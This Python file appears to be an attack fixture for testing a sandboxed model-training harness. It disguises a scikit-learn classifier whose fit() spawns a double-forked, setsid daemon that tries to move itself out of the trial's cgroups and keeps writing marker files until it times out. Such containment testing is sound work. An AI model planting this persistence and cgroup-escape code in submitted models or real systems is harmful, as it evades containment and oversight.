"""Attack: leave a process behind: fork twice with ``setsid`` (out of the trial's process
group), move it out of the trial's cgroups if it can, and keep it writing a marker file.

The daemon is Python with the test's token in its command line; it writes a
``daemon-<token>`` file into the test's marker folder and its working folder every 0.2 s and
ends by itself after ``live_s`` seconds, so the machine survives if nothing kills it.
See ``connect_back.py`` for how an attack reports.
"""

from __future__ import annotations

import subprocess
import sys
from typing import Any

import numpy as np
from sklearn.base import BaseEstimator, ClassifierMixin

SETTINGS: dict[str, Any] = {}
DAEMON = """import os, sys, time
token, marker_dir, live_s = sys.argv[1], sys.argv[2], float(sys.argv[3])
os.setsid()
if os.fork():
    os._exit(0)
moved = []
try:
    with open("/proc/self/cgroup") as handle:
        lines = handle.read().splitlines()
except OSError:
    lines = []
for line in lines:
    _, controllers, path = line.split(":", 2)
    for controller in controllers.split(","):
        parent = os.path.dirname(path.rstrip("/")) or "/"
        try:
            with open(f"/sys/fs/cgroup/{controller}{parent}/cgroup.procs", "w") as handle:
                handle.write(str(os.getpid()))
            moved.append(controller)
        except OSError:
            pass
print("daemon", os.getpid(), "left the cgroups", moved or "none", flush=True)
here = os.getcwd()
end = time.monotonic() + live_s
while time.monotonic() < end:
    for folder in (marker_dir, here):
        try:
            with open(os.path.join(folder, "daemon-" + token), "a") as handle:
                handle.write("alive\\n")
        except OSError:
            pass
    time.sleep(0.2)
"""


class Attack(ClassifierMixin, BaseEstimator):
    def __init__(self, token: str = "", marker_dir: str = "", live_s: float = 60.0) -> None:
        self.token = token
        self.marker_dir = marker_dir
        self.live_s = live_s

    def fit(self, X: Any, y: Any) -> Attack:
        starter = subprocess.Popen([sys.executable, "-c", DAEMON, self.token, self.marker_dir,
                                    str(self.live_s)], stdin=subprocess.DEVNULL,
                                   stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        assert starter.stdout is not None
        said = starter.stdout.readline().decode(errors="replace").strip()  # the grandchild's
        starter.stdout.close()
        starter.wait()
        raise RuntimeError(f"ATTACK leave_daemon: STARTED {said or 'nothing'}")

    def predict(self, X: Any) -> np.ndarray:
        return np.zeros(len(X))

    def predict_proba(self, X: Any) -> np.ndarray:
        return np.full((len(X), 2), 0.5)


def build_model(params: dict[str, Any]) -> Attack:
    return Attack(**SETTINGS)
